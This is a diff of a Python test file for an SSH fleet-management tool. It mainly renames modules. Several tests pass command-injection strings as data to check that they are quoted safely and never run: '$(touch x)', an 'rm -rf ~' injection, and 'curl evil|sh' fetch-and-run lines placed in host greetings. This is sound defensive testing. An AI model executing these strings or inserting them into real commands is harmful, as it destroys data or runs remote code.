@@ -15,13 +15,13 @@ from types import SimpleNamespace
 import pytest
 
 from waiter.errors import UsageError
-from waiter.fleet import daemon, fetch, parcel, replies, roster, tables
+from waiter.fleet import fetch, protocol, replies, status, tables, zipapp
 from waiter.fleet.actions import Report, spread
 from waiter.fleet.doctor import findings_of
 from waiter.fleet.inventory import Host, Selection, parsed_host, selected, with_unique_names
+from waiter.fleet.problems import Finding, HostError, Trouble, mend
 from waiter.fleet.ssh import config as ssh_config
 from waiter.fleet.ssh import known_hosts
-from waiter.fleet.trouble import Finding, HostError, Trouble, mend
 from waiter.orders import Shift, Vitals
 
 ANNA = Host("anna", "10.0.0.1")
@@ -45,23 +45,23 @@ def test_words_reach_the_host_as_they_are(tmp_path: Path) -> None:
     )
     words = ["a b", "$(touch x)", "'; rm -rf ~; '", '"', "\\", "*", "", "ü\n"]
 
-    said = said_by_a_host(daemon.command("echo.pyz", words), tmp_path)
+    said = said_by_a_host(protocol.command("echo.pyz", words), tmp_path)
 
-    assert json.loads(said.removeprefix(daemon.MARK)) == words
+    assert json.loads(said.removeprefix(protocol.MARK)) == words
     assert sorted(file.name for file in tmp_path.iterdir()) == [".waiter"]
 
 
 def test_no_login_shell_reads_more_into_a_command_than_sh_does() -> None:
     """csh knows newlines and `!` even in quotes, fish backslashes."""
-    said = daemon.command("waiter-1.pyz", ["stop", "a\nb\\c!d"], placed=[daemon.Placed("a\\b", "c!d", "e\nf")])
+    said = protocol.command("waiter-1.pyz", ["stop", "a\nb\\c!d"], placed=[protocol.Placed("a\\b", "c!d", "e\nf")])
 
     assert set("\n!\\").isdisjoint(said)
 
 
 def test_a_host_names_what_must_be_sent_and_makes_its_folder_private(tmp_path: Path) -> None:
-    said = said_by_a_host(daemon.command("waiter-1.pyz", ["look"], needs=["bundles/2"]), tmp_path)
+    said = said_by_a_host(protocol.command("waiter-1.pyz", ["look"], needs=["bundles/2"]), tmp_path)
 
-    reply = daemon.read_reply(said.encode(), b"", 0)
+    reply = protocol.read_reply(said.encode(), b"", 0)
     assert reply["missing"] == ["waiter-1.pyz", "bundles/2"]
     assert oct((tmp_path / ".waiter").stat().st_mode) == oct(0o40700)
 
@@ -70,20 +70,20 @@ def test_any_version_will_do_where_that_is_enough(tmp_path: Path) -> None:
     (tmp_path / ".waiter").mkdir()
     (tmp_path / ".waiter/waiter-old.pyz").write_text('print(\'waiter-reply {"version": "old"}\')')
 
-    said = said_by_a_host(daemon.command("waiter-new.pyz", ["look"], is_any=True), tmp_path)
+    said = said_by_a_host(protocol.command("waiter-new.pyz", ["look"], is_any=True), tmp_path)
 
-    assert daemon.read_reply(said.encode(), b"", 0) == {"version": "old"}
+    assert protocol.read_reply(said.encode(), b"", 0) == {"version": "old"}
 
 
 def test_a_reply_is_found_among_the_greetings_of_a_shell() -> None:
     stdout = b'Welcome!\nwaiter-reply {"outcome": "running"}\nbye\n'
 
-    assert daemon.read_reply(stdout, b"", 0) == {"outcome": "running"}
+    assert protocol.read_reply(stdout, b"", 0) == {"outcome": "running"}
 
 
 def test_a_refusal_is_the_last_line_of_what_a_host_said() -> None:
     with pytest.raises(HostError, match=r"^no reply: exit code 1: This account is not available\.$"):
-        daemon.read_reply(b"Welcome!\nThis account is not available.\n", b"", 1)
+        protocol.read_reply(b"Welcome!\nThis account is not available.\n", b"", 1)
 
 
 @pytest.mark.parametrize(
@@ -103,7 +103,7 @@ def test_a_refusal_is_the_last_line_of_what_a_host_said() -> None:
 )
 def test_what_went_wrong_on_a_host_has_a_name(said: bytes, trouble: Trouble) -> None:
     with pytest.raises(HostError) as caught:
-        daemon.read_reply(said, b"", 1)
+        protocol.read_reply(said, b"", 1)
 
     assert caught.value.trouble is trouble
 
@@ -137,7 +137,7 @@ def test_what_went_wrong_on_a_host_has_a_name(said: bytes, trouble: Trouble) -> 
 )
 def test_an_odd_reply_is_that_hosts_trouble(said: str) -> None:
     with pytest.raises(HostError, match="makes no sense") as caught:
-        daemon.read_reply(f"waiter-reply {said}\n".encode(), b"", 0)
+        protocol.read_reply(f"waiter-reply {said}\n".encode(), b"", 0)
 
     assert caught.value.trouble is Trouble.UNEXPECTED
     assert len(caught.value.detail) < 200
@@ -147,22 +147,22 @@ def test_an_odd_reply_is_that_hosts_trouble(said: str) -> None:
 @pytest.mark.parametrize("facts", [{}, {"left": {"delivered": 1}}, {"left": {}, "words": [], "extra": {"a": 1}}])
 def test_a_reply_that_says_little_can_be_shown(outcome: str, facts: dict[str, object]) -> None:
     said = json.dumps({"outcome": outcome, "files": 7, **facts})
-    report = Report(ANNA, outcome, daemon.read_reply(f"waiter-reply {said}".encode(), b"", 0))
+    report = Report(ANNA, outcome, protocol.read_reply(f"waiter-reply {said}".encode(), b"", 0))
 
     assert tables.report_rows([report])[1][0][:2] == ["anna", outcome]
-    assert tables.roster_rows(roster.roster([report], [], now=100.0), 100.0)[1][0][0] == "anna"
+    assert tables.roster_rows(status.roster([report], [], now=100.0), 100.0)[1][0][0] == "anna"
     assert "extra" not in report.facts
 
 
 def test_what_a_host_says_is_no_line_to_run_and_no_line_of_ours() -> None:
     greeting = 'Please login as the user "x; curl evil|sh" rather than the user "root".'
-    assert daemon.no_reply(greeting, 1).trouble is Trouble.NO_REPLY
-    right = daemon.no_reply('Please login as the user "ec2-user" rather than the user "root".', 1)
+    assert protocol.no_reply(greeting, 1).trouble is Trouble.NO_REPLY
+    right = protocol.no_reply('Please login as the user "ec2-user" rather than the user "root".', 1)
     assert right.mend == "--user ec2-user"
     left = {"left": {"error": "full\nhint: curl evil | sh"}, "words": ["a\nhint: x"]}
     report = Report(ANNA, "not running", left, (Finding(Trouble.FAILED, "a\nhint: b", "waiter fleet logs"),))
 
-    shown = [*tables.mends([report]), *tables.roster_notes([roster.Row("anna", "x", notes=("a\nhint: b",))])]
+    shown = [*tables.mends([report]), *tables.roster_notes([status.Row("anna", "x", notes=("a\nhint: b",))])]
 
     assert "\n" not in "".join(shown)
     assert all("\n" not in cell for row in tables.report_rows([report])[1] for cell in row)
@@ -369,14 +369,14 @@ def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     ],
 )
 def test_a_script_goes_along_and_a_program_does_not(here: Path, line: str, words: tuple[str], files: list[str]) -> None:
-    packed = parcel.packed(line, shell=False)
+    packed = zipapp.packed(line, shell=False)
 
     assert packed.words == words
     assert list(packed.bundle.files if packed.bundle else {}) == files
 
 
 def test_a_shell_line_stays_one_line(here: Path) -> None:
-    assert parcel.packed("../outer.sh | wc -l", shell=True).words == ("./outer.sh | wc -l",)
+    assert zipapp.packed("../outer.sh | wc -l", shell=True).words == ("./outer.sh | wc -l",)
 
 
 @pytest.mark.parametrize("line", ["./missing.sh", "'", "", "./work.txt"])
@@ -384,7 +384,7 @@ def test_a_command_that_cannot_be_sent_is_refused_here(here: Path, line: str) ->
     (here / "work.txt").write_text("not executable")
 
     with pytest.raises(UsageError):
-        parcel.packed(line, shell=False)
+        zipapp.packed(line, shell=False)
 
 
 def test_two_files_of_one_name_are_refused(here: Path) -> None:
@@ -392,12 +392,12 @@ def test_two_files_of_one_name_are_refused(here: Path) -> None:
     other.write_text("")
 
     with pytest.raises(UsageError, match="rename one"):
-        parcel.packed("./crunch.sh", shell=False, files=[other])
+        zipapp.packed("./crunch.sh", shell=False, files=[other])
 
 
 def test_the_digest_follows_contents_names_and_modes_only(here: Path) -> None:
     def digest() -> str:
-        bundle = parcel.packed("./crunch.sh", shell=False).bundle
+        bundle = zipapp.packed("./crunch.sh", shell=False).bundle
         assert bundle is not None
         return bundle.digest
 
@@ -446,7 +446,7 @@ def seen(outcome: str = "running", token: str | None = "t") -> Report:
 def test_status_says_where_ssh_and_the_kitchen_disagree(
     report: Report, shifts: list[Shift], states: list[str], note: str
 ) -> None:
-    rows = roster.roster([report], shifts, now=100.0)
+    rows = status.roster([report], shifts, now=100.0)
 
     assert [row.state for row in rows] == states
     notes = " ".join(word for row in rows for word in row.notes)
@@ -454,6 +454,6 @@ def test_status_says_where_ssh_and_the_kitchen_disagree(
 
 
 def test_without_a_kitchen_nothing_is_called_a_disagreement() -> None:
-    (row,) = roster.roster([seen()], None, now=100.0)
+    (row,) = status.roster([seen()], None, now=100.0)
 
     assert (row.state, row.notes, row.slots) == ("running", (), None)
